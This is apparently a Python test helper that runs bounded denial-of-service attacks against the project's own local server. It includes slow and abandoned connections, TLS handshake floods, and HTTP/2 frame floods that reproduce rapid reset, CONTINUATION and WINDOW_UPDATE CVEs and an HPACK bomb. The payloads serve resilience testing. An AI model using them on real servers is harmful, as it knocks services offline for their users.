"""Attacks on a server of this machine, from many addresses of it: bounded in number and in time. Run as a program, so that
its files and its work are its own. It tells how much it did when it has begun all of it, and ends with its input."""

import contextlib
import itertools
import json
import random
import resource
import select
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time

# linux/tcp.h. A socket in this state is closed without a word to its peer, as if its machine had lost its power.
TCP_REPAIR = 19
# So long an attack goes on at most.
LONGEST = 20
WORKERS = 16


class Attacker:
    """The program, as a test holds it."""

    def __init__(self, kind, **options):
        self.done = None
        self.process = subprocess.Popen(
            [sys.executable, __file__, kind, json.dumps(options)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
        )
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()

    def _read(self):
        for line in self.process.stdout:
            self.done = json.loads(line)

    @property
    def has_begun(self):
        """True once everything is under way, or over."""
        return self.done is not None or self.process.poll() is not None

    def stop(self):
        self.process.stdin.close()
        assert self.process.wait(60) == 0
        self.reader.join(10)
        return self.done


def connect(port, number, receives=None):
    """From one of the addresses 127.1.0.1 to 127.1.0.254, by turns."""
    found = socket.socket()
    found.settimeout(10)
    # So that the kernel chooses the port when it knows both ends: there are enough for each pair.
    found.setsockopt(socket.IPPROTO_IP, 24, 1)
    if receives:
        found.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receives)
    found.bind((f"127.1.0.{1 + number % 254}", 0))
    found.connect(("127.0.0.1", port))
    return found


def secured(plain, protocols=("http/1.1",)):
    context = ssl._create_unverified_context()
    context.set_alpn_protocols(list(protocols))
    return context.wrap_socket(plain)


def in_parallel(count, attack):
    """`attack(number)` for each number, by several at once, until the time is over. Answers how many were made."""
    numbers = itertools.count()
    end = time.monotonic() + LONGEST
    made, kept, lock = [0], [], threading.Lock()

    def work():
        while (number := next(numbers)) < count and time.monotonic() < end:
            # What a server under attack refuses, resets or lets wait is its right.
            with contextlib.suppress(OSError):
                held = attack(number)
                with lock:
                    made[0] += 1
                    if held:
                        kept.append(held)

    workers = [threading.Thread(target=work) for _ in range(WORKERS)]
    for each in workers:
        each.start()
    for each in workers:
        each.join()
    return made[0], kept


def reset(connection):
    """Closed, and the peer gets RST."""
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    connection.close()


def vanish(connection):
    connection.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
    connection.close()


def silence(options):
    """Connections that ask for nothing, or for nothing more."""
    def attack(number):
        connection = connect(options["port"], options["first"] + number % options["addresses"])
        if number % 4 == 0:
            connection.sendall(b"GET /healthz HTTP/1.1\r\nHost: palco\r\n\r\n")
        return connection

    return in_parallel(options["count"], attack)


def churn(options):
    """Connections that are given up at once: after a request, in the middle of one, before any."""
    def attack(number):
        connection = connect(options["port"], number)
        connection.sendall([b"", b"GET /healthz HTTP/1.1\r\nHost: palco\r\n\r\n", b"GET /healthz HT"][number % 3])
        if number % 2:
            reset(connection)
        else:
            connection.close()

    return in_parallel(options["count"], attack)


def halves(options):
    """Peers whose other half is gone: closed for sending, or vanished without a word."""
    body = b"POST /api/v1/auth/login HTTP/1.1\r\nHost: palco\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{"
    segment = f"GET {options['segment']} HTTP/1.1\r\nHost: palco\r\n\r\n".encode() * 50

    def attack(number):
        connection = connect(options["port"], number, receives=4096)
        if options["port"] == options["secure"]:
            connection = secured(connection)
        connection.sendall([b"GET /healthz HTTP/1.1\r\nHos", body, segment][number % 3])
        if number % 4 < 2:
            connection.shutdown(socket.SHUT_WR)
            return connection
        try:
            vanish(connection)
        except PermissionError:
            reset(connection)
        return None

    return in_parallel(options["count"], attack)


def deafness(options):
    """Peers that ask for much and read nothing."""
    request = f"GET {options['segment']} HTTP/1.1\r\nHost: palco\r\n\r\n".encode() * 50

    def attack(number):
        connection = secured(connect(options["port"], number, receives=4096))
        connection.sendall(request)
        return connection

    return in_parallel(options["count"], attack)


# What some of the garbage begins with, so that it gets further.
BEGINNINGS = [
    b"", b"GET / HTTP/1.1\r\n", b"POST /api/v1/auth/login HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", b"PROXY TCP4 ", b"\r\n\r\n\x00\r\nQUIT\n",
]  # fmt: skip


def garbage(options):
    """Bytes that mean nothing, to each port and inside TLS."""
    def attack(number):
        chance = random.Random(f"{options['seed']}-{number}")
        port = options["ports"][number % len(options["ports"])]
        connection = connect(port, number)
        if port == options["secure"] and number % 8 < 2:
            connection = secured(connection, [["http/1.1"], ["h2"]][number % 8])
        connection.sendall(chance.choice(BEGINNINGS) + chance.randbytes(chance.randrange(1, 8192)))
        if number % 3 == 0:
            connection.settimeout(0.5)
            while connection.recv(65536):
                pass
        connection.close()

    return in_parallel(options["count"], attack)


def handshakes(options):
    """Beginnings of TLS: the same words again and again, which cost the server a signature and the peer nothing."""
    inbound, outbound = ssl.MemoryBIO(), ssl.MemoryBIO()
    hello = ssl._create_unverified_context().wrap_bio(inbound, outbound)
    with contextlib.suppress(ssl.SSLWantReadError):
        hello.do_handshake()
    words = outbound.read()

    def attack(number):
        connection = connect(options["port"], number % options["addresses"])
        connection.sendall(words)
        answer = connection.recv(65536)
        if answer and number % 8 == 0:
            return connection
        connection.close()
        return None

    return in_parallel(options["count"], attack)


# The kinds of frames of HTTP/2 that are sent here (RFC 9113 6).
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def head(stream, path, flags=5):
    """A request for `path`: by its flags complete with this frame."""
    text = path.encode()
    return frame(HEADERS, flags, stream, b"\x82\x87\x01\x05palco\x04" + bytes([len(text)]) + text)


def flood(number, path):
    """What is sent at first, and what is sent in each turn, by its number from 1."""
    odd = range(1, 1 << 20, 2)
    waiting = head(1, path, flags=4)
    kinds = [
        # CVE-2023-44487
        (b"", lambda turn: head(odd[turn], path) + frame(RST_STREAM, 0, odd[turn], bytes(4))),
        # CVE-2025-8671: the window of a stream is opened beyond its end.
        (b"", lambda turn: head(odd[turn], path) + frame(WINDOW_UPDATE, 0, odd[turn], b"\x7f\xff\xff\xff")),
        (b"", lambda turn: frame(PING, payload=bytes(8))),
        (b"", lambda turn: frame(SETTINGS, payload=struct.pack(">HI", 4, 1 << 16))),
        (waiting, lambda turn: frame(DATA, 0, 1)),
        (waiting, lambda turn: frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1")),
        # CVE-2024-28182
        (head(1, path, flags=0), lambda turn: frame(CONTINUATION, 0, 1, b"\x00\x01x\x01y" * 100)),
        # One field of 4,000 bytes, and each byte after it means the whole field.
        (b"", lambda turn: bomb(odd[turn], path, turn == 1)),
    ]
    return kinds[number % len(kinds)]


def bomb(stream, path, is_first):
    text = path.encode()
    block = b"\x82\x87\x01\x05palco\x04" + bytes([len(text)]) + text
    if is_first:
        block += b"\x40\x01x\x7f\xa1\x1e" + b"x" * 4000
    return frame(HEADERS, 5, stream, block + b"\xbe" * 8000)


def floods(options):
    """Frames of HTTP/2 that cost their sender little; and peers that ask for much and leave all windows shut."""
    hello = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
    path = options["segment"]

    def attack(number):
        connection = secured(connect(options["port"], number), ["h2"])
        if number % 9 == 8:
            connection.sendall(hello + frame(SETTINGS, payload=struct.pack(">HI", 4, 0)))
            connection.sendall(b"".join(head(stream, path) for stream in range(1, 200, 2)))
            return connection
        before, turns = flood(number, path)
        connection.sendall(hello + frame(SETTINGS) + before)
        for first in range(1, 4000, 100):
            connection.sendall(b"".join(turns(turn) for turn in range(first, first + 100)))
        connection.close()
        return None

    return in_parallel(options["count"], attack)


def main(kind, options):
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    kinds = [silence, churn, halves, deafness, garbage, handshakes, floods]
    made, kept = next(each for each in kinds if each.__name__ == kind)(options)
    print(json.dumps({"made": made, "held": len(kept)}), flush=True)
    select.select([sys.stdin], [], [])


if __name__ == "__main__":
    main(sys.argv[1], json.loads(sys.argv[2]))
